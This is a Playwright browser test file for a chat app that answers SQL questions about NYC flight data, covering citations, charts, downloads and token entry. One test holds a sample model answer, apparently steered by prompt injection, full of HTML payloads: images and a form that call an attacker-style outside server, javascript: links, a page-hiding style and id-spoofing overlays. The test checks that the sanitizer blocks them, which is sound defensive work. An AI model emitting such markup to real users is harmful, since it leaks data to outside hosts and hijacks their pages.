"""End to end in headless Chromium (Debian's package, driven by Playwright without its own browser):
type a question, see thinking, a query, the answer with a working citation link and follow-ups; and an
answer steered by planted data that tries to take the page over."""

from __future__ import annotations

import os
import re
import shutil
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from chats.state import ChatState
from tests.conftest import EXAMPLE_QUESTIONS
from tests.fakes.anthropic_api import FakeAnthropic, Reply
from tests.web_helpers import LiveServer
from web.app import create_app

CHROMIUM = os.environ.get("CHROMIUM_PATH") or shutil.which("chromium") or shutil.which("chromium-browser")
ARTIFACTS = Path(__file__).parent / "artifacts"
FLAGS = [
    "--headless=new",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]

# Collects every Content-Security-Policy violation the page reports (init scripts are exempt from the CSP).
WATCH_CSP = """
window.cspViolations = [];
document.addEventListener("securitypolicyviolation",
  (e) => window.cspViolations.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile.split("/").pop()}`));
"""

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium found (install Debian's chromium, or set CHROMIUM_PATH)"),
]


DEPARTURES_SQL = """
SELECT origin, count() AS departures
FROM nycflights13.flights
GROUP BY origin
ORDER BY departures DESC
"""


def script(fake: FakeAnthropic) -> None:
    fake.script(
        Reply(
            tool_calls=[
                ("think", {"content": "I'll count 2013 departures for each NYC airport."}),
                (
                    "execute_sql",
                    {
                        "queries": [
                            {
                                "question": "Departures per origin airport",
                                "sql": DEPARTURES_SQL,
                            }
                        ]
                    },
                ),
            ]
        ),
        Reply(
            text="**Newark (EWR)** had the most departures in 2013: **120,835** flights [Q1], ahead of "
            "JFK (111,279) and LaGuardia (104,662) [Q1] [verified: busiest-airport]."
        ),
        Reply(text='["Which airlines flew the most from EWR?", "How did departures change by month?"]'),
    )


async def test_a_question_end_to_end_in_chromium(make_app, fake_anthropic: FakeAnthropic, tmp_path: Path) -> None:
    from playwright.async_api import async_playwright

    script(fake_anthropic)
    state = ChatState(tmp_path / "state.sqlite3")
    store = state.conversations
    ARTIFACTS.mkdir(exist_ok=True)
    async with LiveServer(create_app(make_app(), state)) as server, async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        try:
            page = await browser.new_page(viewport={"width": 1200, "height": 900})
            errors: list[str] = []
            page.on("pageerror", lambda error: errors.append(str(error)))
            await page.add_init_script(WATCH_CSP)
            response = await page.goto(server.url)
            assert response is not None and "script-src 'self'" in response.headers["content-security-policy"]
            await page.locator("button.example").nth(2).wait_for()  # read from GET /api/examples, not the shell
            assert await page.locator("button.example").all_inner_texts() == EXAMPLE_QUESTIONS
            await page.fill("#question", "Which NYC airport had the most departures in 2013?")
            await page.keyboard.press("Enter")

            await page.locator(".step.thinking", has_text="count 2013 departures").wait_for()
            card = page.locator(".query", has=page.locator(".badge", has_text="Q1"))
            await card.locator(".query-question", has_text="Departures per origin airport").wait_for()
            await card.locator(".query-status", has_text="3 rows").wait_for()
            answer = page.locator(".bubble.answer")
            await answer.locator("strong", has_text="120,835").wait_for()  # Markdown rendered
            followups = page.locator("button.followup")
            await followups.nth(1).wait_for()
            assert await followups.all_inner_texts() == [
                "Which airlines flew the most from EWR?",
                "How did departures change by month?",
            ]
            await answer.locator("button.cite.knowledge", has_text="[verified: busiest-airport]").click()
            entry = answer.locator(".knowledge-entry")
            await entry.wait_for()  # the team's verified query the answer followed, and where it is kept
            assert (await entry.inner_text()).endswith("(verified_queries.yaml:2)")
            await page.locator(".thumbs button[aria-label='Right answer']").click()  # a proposal for review
            await page.locator(".thumbs .thanks", has_text="Thanks, noted.").wait_for()

            cite = answer.locator("a.cite").first
            assert await cite.inner_text() == "[Q1]"
            await cite.click()
            await page.locator(".query.highlight").wait_for()
            assert await card.locator("details.result").get_attribute("open") is not None
            assert await card.locator("table.preview tbody tr").count() == 3
            async with page.expect_download() as downloading:  # a blob: download, allowed by the policy
                await card.locator("button.download").click()
            download = await downloading.value
            assert Path(await download.path()).read_text().splitlines()[0] == "origin,departures"
            assert download.suggested_filename == "departures-per-origin-airport.csv"  # named from its question
            await page.wait_for_timeout(500)  # let the highlight fade in
            await page.screenshot(path=ARTIFACTS / "chat.png", full_page=True)

            await page.set_viewport_size({"width": 390, "height": 844})
            await page.emulate_media(color_scheme="dark")
            await page.wait_for_timeout(2500)  # the highlight fades and the sidebar slides away
            await page.screenshot(path=ARTIFACTS / "chat-phone-dark.png")
            sidebar = page.locator(".conversation", has_text="Which NYC airport")
            await page.click("#toggle-sidebar")
            await sidebar.wait_for()
            assert errors == []
            assert await page.evaluate("window.cspViolations") == []  # the page lives within its own policy
        finally:
            await browser.close()
    [listed] = await store.list_conversations()
    conversation = await store.get_conversation(listed["id"])
    assert conversation is not None and conversation["turns"][0]["feedback"] == "up"
    state.close()


PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="


@contextmanager
def counting_server() -> Iterator[tuple[str, list[str]]]:
    """An outside server an attacker would own: it records every request that reaches it."""
    seen: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", seen
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def hostile_answer(outside: str) -> str:
    """What a model might write after reading data planted to steer it."""
    return f"""**EWR** had the most departures [Q1].

![chart]({outside}/pixel.png) <img src="{outside}/raw.png" srcset="{outside}/set.png 2x" alt="raw">
<img src="//{outside.removeprefix("http://")}/protocol-relative.png"> ![inline](data:image/png;base64,{PIXEL})

<form id="composer" action="{outside}/steal" method="get"><input name="x" value="y"><textarea name="t"></textarea>
<select name="s"><option>o</option></select><button type="submit" formaction="{outside}/b">Send</button></form>

<style>body{{display:none}}</style>

<div id="messages" name="m" style="position:fixed;inset:0;background:red" class="banner">Overlay</div>
<h2 id="send" title="t">Heading</h2>

<a href="javascript:alert(1)">click me</a>, <a href=" jAvAsCrIpT:alert(2)">two</a>, [a source]({outside}/link)

<table background="{outside}/bg.png"><tr><td>cell</td></tr></table>
<video src="{outside}/v.mp4" poster="{outside}/poster.png"></video><svg><image href="{outside}/svg.png"/></svg>
"""


async def test_an_answer_cannot_take_over_the_page(make_app, fake_anthropic: FakeAnthropic, tmp_path: Path) -> None:
    from playwright.async_api import async_playwright

    state = ChatState(tmp_path / "state.sqlite3")

    with counting_server() as (outside, seen):
        fake_anthropic.script(
            Reply(tool_calls=[("execute_sql", {"queries": [{"question": "Departures", "sql": DEPARTURES_SQL}]})]),
            Reply(text=hostile_answer(outside)),
            Reply(text="[]"),
            Reply(text="A second answer."),
            Reply(text="[]"),
        )
        async with LiveServer(create_app(make_app(), state)) as server, async_playwright() as playwright:
            browser = await playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
            try:
                page = await browser.new_page(viewport={"width": 1200, "height": 900})
                errors: list[str] = []
                page.on("pageerror", lambda error: errors.append(str(error)))
                await page.add_init_script(WATCH_CSP)
                await page.goto(server.url)
                await page.fill("#question", "Which airport had the most departures?")
                await page.keyboard.press("Enter")
                answer = page.locator(".bubble.answer").first
                await answer.locator("strong", has_text="EWR").wait_for()
                await page.locator(".turn .query.downloadable").wait_for()  # the run is done
                await page.wait_for_timeout(300)

                # Nothing in the answer carries an id, a name or a style, or is a form control or style sheet.
                assert await answer.locator("[id], [name], [style], [class]:not(a.cite)").count() == 0
                assert await answer.locator("form, input, textarea, select, button, style, video, svg").count() == 0
                assert await page.locator("#composer").count() == 1 and await page.locator("#messages").count() == 1
                assert await page.evaluate("getComputedStyle(document.body).display") != "none"
                assert await page.locator("#composer").is_visible()
                # Images: only the data: one keeps its source. Links: never script, and open apart from the page.
                sources = await answer.locator("img").evaluate_all("(images) => images.map((i) => i.src)")
                assert [s for s in sources if s] == [f"data:image/png;base64,{PIXEL}"]
                links = await answer.locator("a:not(.cite)").evaluate_all(
                    "(links) => links.map((a) => [a.getAttribute('href'), a.rel, a.target])"
                )
                assert [href for href, _, _ in links] == [None, None, f"{outside}/link"]
                assert links[2][1:] == ["noopener noreferrer", "_blank"]
                # The [Q1] citation still jumps to its query.
                await answer.locator("a.cite").first.click()
                await page.locator(".query.highlight").wait_for()

                # The composer still sends to the app, and the page stays where it is.
                await page.fill("#question", "And the second?")
                await page.keyboard.press("Enter")
                await page.locator(".bubble.answer", has_text="A second answer.").wait_for()
                assert re.fullmatch(rf"{server.url}/c/[0-9a-f]{{32}}", page.url)  # the conversation's own address
                assert await page.locator(".turn").count() == 2
                asked = [r["messages"][-1]["content"] for r in fake_anthropic.requests]
                assert any(isinstance(c, list) and c[0].get("text") == "And the second?" for c in asked)

                await page.wait_for_timeout(300)
                assert seen == []  # not one request reached the outside server
                assert errors == []
                # The sanitizer left the page nothing to block: the policy only flagged the <style> and the
                # style attribute while DOMPurify's inert parser read them (its document inherits the policy).
                violations = set(await page.evaluate("window.cspViolations"))
                assert violations <= {f"style-src-{kind} inline purify-3.4.18.min.js" for kind in ("elem", "attr")}
            finally:
                await browser.close()
    state.close()


MONTHLY_SQL = """
SELECT toStartOfMonth(time_hour) AS month, round(avg(dep_delay), 1) AS avg_dep_delay
FROM nycflights13.flights
GROUP BY month
ORDER BY month
"""


async def test_a_chart_is_drawn_under_the_answer_and_downloads(
    make_app, fake_anthropic: FakeAnthropic, tmp_path: Path
) -> None:
    from playwright.async_api import async_playwright

    fake_anthropic.script(
        Reply(tool_calls=[("execute_sql", {"queries": [{"question": "Average delay by month", "sql": MONTHLY_SQL}]})]),
        Reply(
            tool_calls=[
                (
                    "chart",
                    {
                        "query_id": "Q1",
                        "kind": "line",
                        "x": "month",
                        "y": "avg_dep_delay",
                        "title": "Average departure delay by month",
                    },
                ),
            ]
        ),
        Reply(text="Delays peaked in **July** (21.7 min) and were lowest in November (5.4 min) [Q1]."),
        Reply(text="[]"),
    )
    state = ChatState(tmp_path / "state.sqlite3")
    ARTIFACTS.mkdir(exist_ok=True)
    async with LiveServer(create_app(make_app(), state)) as server, async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        try:
            page = await browser.new_page(viewport={"width": 1100, "height": 1000}, accept_downloads=True)
            errors: list[str] = []
            page.on("pageerror", lambda error: errors.append(str(error)))
            await page.add_init_script(WATCH_CSP)
            await page.goto(server.url)
            await page.fill("#question", "How did departure delays change month by month?")
            await page.keyboard.press("Enter")
            figure = page.locator("figure.chart")
            await figure.locator(".chart-canvas svg").wait_for(timeout=15_000)
            assert await figure.locator(".chart-canvas svg path").count() > 0  # the line is drawn
            assert "line chart of avg_dep_delay by month from Q1, 12 rows" in await figure.inner_text()
            await page.locator(".bubble.answer strong", has_text="July").wait_for()
            await page.wait_for_timeout(300)
            await figure.screenshot(path=ARTIFACTS / "chart-line.png")
            await page.screenshot(path=ARTIFACTS / "chat-chart.png", full_page=True)

            for label, signature in (("PNG", b"\x89PNG"), ("SVG", b"<svg")):
                async with page.expect_download() as downloading:
                    await figure.locator(f".vega-actions a:has-text('{label}')").click()
                data = Path(await (await downloading.value).path()).read_bytes()
                assert data.startswith(signature), data[:40]

            await figure.locator("a.open-query").click()
            await page.locator(".query.highlight").wait_for()

            await page.emulate_media(color_scheme="dark")
            await page.reload()  # a stored conversation replays its chart
            await page.locator(".conversation").first.click()
            await page.locator("figure.chart .chart-canvas svg").wait_for(timeout=15_000)
            await page.wait_for_timeout(300)
            await page.locator("figure.chart").screenshot(path=ARTIFACTS / "chart-line-dark.png")
            await page.set_viewport_size({"width": 390, "height": 844})
            await page.wait_for_timeout(300)
            await page.screenshot(path=ARTIFACTS / "chart-phone-dark.png")
            assert errors == []
            assert await page.evaluate("window.cspViolations") == []
        finally:
            await browser.close()
    state.close()


async def test_a_slack_link_opens_the_querys_own_page(make_app, fake_anthropic: FakeAnthropic, tmp_path: Path) -> None:
    """A person follows a Slack answer's link to one query (the plan's source, the Open Qn button) in a
    browser that has no token yet: the page asks for it (in the page; a wrong one is refused saying so),
    then shows the SQL, the preview and the CSV."""
    import httpx
    from playwright.async_api import async_playwright

    from bots.slack.blocks import query_page_url
    from tests.web_helpers import chat

    script(fake_anthropic)
    state = ChatState(tmp_path / "state.sqlite3")
    token = "s3cret"
    async with LiveServer(create_app(make_app(agent_web_token=token), state)) as server, async_playwright() as pw:
        auth = {"Authorization": f"Bearer {token}"}
        async with httpx.AsyncClient(base_url=server.url, timeout=30, headers=auth) as client:
            run_id = (await chat(client, "Which NYC airport had the most departures in 2013?"))[0].data["run_id"]
        browser = await pw.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        try:
            page = await browser.new_page(viewport={"width": 1000, "height": 700}, accept_downloads=True)
            errors: list[str] = []
            page.on("pageerror", lambda error: errors.append(str(error)))
            native: list[str] = []
            page.on("dialog", lambda dialog: native.append(dialog.message))  # prompt() would land here
            await page.add_init_script(WATCH_CSP)
            await page.goto(query_page_url(server.url, run_id, "Q1"))
            dialog = page.locator("#token-dialog")
            await dialog.wait_for()
            assert await dialog.locator("h2").inner_text() == "This server needs an access token"
            assert not await page.locator("#token-wrong").is_visible()
            await page.fill("#token-input", "not-the-token")
            await page.keyboard.press("Enter")
            await page.locator("#token-wrong", has_text="That token was not accepted").wait_for()  # asked again
            assert await dialog.is_visible() and await page.input_value("#token-input") == ""
            await page.fill("#token-input", token)
            await dialog.locator("button[type=submit]").click()
            card = page.locator(".query", has=page.locator(".badge", has_text="Q1"))
            await card.locator(".query-status", has_text="3 rows").wait_for()
            assert native == [] and not await dialog.is_visible()
            assert await page.evaluate("localStorage.getItem('agentToken')") == token
            assert await card.locator(".query-question").inner_text() == "Departures per origin airport"
            assert "GROUP BY origin" in await card.locator("details.sql code").inner_text()
            assert await card.locator("table.preview tbody tr").count() == 3  # the preview is open
            assert await card.locator("table.preview tbody tr").first.inner_text() == "EWR\t120835"
            context = await page.locator("#query-context").inner_text()
            question = "Which NYC airport had the most departures in 2013?"
            assert context.startswith(f"Q1 of the answer to “{question}”, answered")
            ARTIFACTS.mkdir(exist_ok=True)
            await page.screenshot(path=ARTIFACTS / "query.png", full_page=True)
            async with page.expect_download() as downloading:
                await card.locator("button.download").click()
            download = await downloading.value
            assert Path(await download.path()).read_text().splitlines()[:2] == ["origin,departures", "EWR,120835"]

            assert await card.locator(".query-link").count() == 0  # the page does not link to itself
            await page.goto(query_page_url(server.url, "0" * 32, "Q1"))
            await page.locator("#banner", has_text=f"No stored query {'0' * 32}-Q1").wait_for()
            assert errors == []
            assert await page.evaluate("window.cspViolations") == []
        finally:
            await browser.close()
    state.close()
